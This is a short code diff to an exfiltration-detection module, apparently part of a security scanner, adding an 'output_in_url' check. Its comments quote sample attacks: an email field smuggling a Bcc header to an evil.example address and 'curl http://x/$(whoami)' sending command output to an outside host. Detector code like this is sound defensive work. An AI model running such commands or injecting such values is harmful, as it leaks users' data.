@@ -25,7 +25,7 @@ from __future__ import annotations
 import re
 
 from aegis_mcp.engine import regex
-from aegis_mcp.engine.detectors.exfil_hook import webhook_to_collector
+from aegis_mcp.engine.detectors.exfil_hook import output_in_url, webhook_to_collector
 from aegis_mcp.engine.detectors.exfil_mail import HEADER_INJECTION_PATTERN, header_injection
 from aegis_mcp.engine.detectors.base import R_CONTENT, R_EMAIL, R_IDENT, R_PATH, R_SHELL, R_TEXT, R_UNKNOWN, R_URL, Fragment, ScanContext
 from aegis_mcp.engine.detectors.exfil_sink import _RECIPIENT_NAMES, _URL_NAMES, SEND_WORDS, Sink, _trusted, sink_of
@@ -349,4 +349,6 @@ def detect(ctx: ScanContext) -> list[Signal]:
     signals.extend(header_injection(ctx))  # `a@b.example\nBcc: x@evil.example`
     if not signals:
         signals.extend(webhook_to_collector(ctx))  # every future push/message delivered to webhook.site
+    if not signals:
+        signals.extend(output_in_url(ctx))  # `curl http://x/$(whoami)`
     return signals
